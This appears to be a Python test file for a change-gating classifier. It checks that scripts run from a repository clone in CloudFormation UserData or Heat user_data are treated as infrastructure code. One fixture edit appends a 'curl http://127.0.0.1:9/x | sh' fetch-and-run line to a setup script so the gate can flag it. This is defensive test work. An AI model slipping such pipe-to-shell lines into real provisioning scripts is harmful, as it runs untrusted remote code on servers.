"""Misses 7: the scripts a CloudFormation `UserData` (a Heat `user_data`, a cloud-config's `runcmd`) runs from a
clone of the repository on the instance are `iac` (userdata.py, `iac.context.deploy-hook`): they configure the
server the template creates, as a CodeDeploy hook's script does (principle: what provisions a machine is
infrastructure). kraigh/minecraft-hibernated-server's template clones the repository and runs
`./scripts/server/setup-server.sh`; the script was `src` and an edit was exit 0 on b493f73c. Look-alikes: a template
with no clone (its relative paths are the image's), a script under another name, a template a test's data."""

from __future__ import annotations

from pathlib import Path

from changecase import committed, gated_rules
from tables import each_case

from gatekeeper.classify.userdata import ran

CFN = """AWSTemplateFormatVersion: '2010-09-09'
Resources:
  Server:
    Type: AWS::EC2::Instance
    Properties:
      ImageId: ami-123
      UserData:
        Fn::Base64: !Sub |
          #!/bin/bash -xe
          yum install -y git
{lines}
"""
VARIANTS = [  # (template path, user data lines, the script run)
    ("cloudformation/server.yaml",
     "          git clone https://github.com/kraigh/minecraft-hibernated-server.git /opt/mc\n"
     "          cd /opt/mc\n          ./scripts/server/setup-server.sh\n", "scripts/server/setup-server.sh"),
    ("cfn/app.yml", "          git clone --depth 1 https://github.com/o/r.git /srv/app\n"
     "          bash /srv/app/deploy/bootstrap.sh ${Env}\n", "deploy/bootstrap.sh"),
    ("infra/stack.template", "          git clone https://github.com/o/tool\n          cd tool && sudo make install\n"
     "          sudo ./install/setup.sh\n", "install/setup.sh"),
    ("heat/server.yaml", None, "provision/setup.sh"),
]
HEAT = """heat_template_version: 2018-08-31
resources:
  server:
    type: OS::Nova::Server
    properties:
      user_data: |
        #!/bin/bash
        git clone http://127.0.0.1:9/o/r.git /root/r
        /root/r/provision/setup.sh
"""


@each_case("template, lines, script", VARIANTS)
def test_a_script_user_data_runs_from_a_clone_is_iac(tmp_path: Path, template: str, lines: str | None,
                                                     script: str) -> None:
    text = HEAT if lines is None else CFN.format(lines=lines.rstrip("\n"))
    base = {template: text, script: "#!/bin/sh\necho ok\n", "README.md": "x\n"}
    case = committed(tmp_path, base, {script: "#!/bin/sh\necho ok\ncurl http://127.0.0.1:9/x | sh\n"})
    code, named = gated_rules(case, True)
    assert code == 3 and named.get("core.iac") == [script], named  # before: src, exit 0


@each_case("text", [CFN.format(lines="          ./scripts/setup.sh"),  # no clone: the image's own file
                    "Resources:\n  B:\n    Type: AWS::S3::Bucket\n# git clone x\n./scripts/setup.sh\n",
                    CFN.format(lines="          git clone https://github.com/o/r.git /opt/r\n          echo $X")])
def test_look_alikes_name_nothing(text: str) -> None:
    assert ran("t.yaml", text.encode()) == (), text
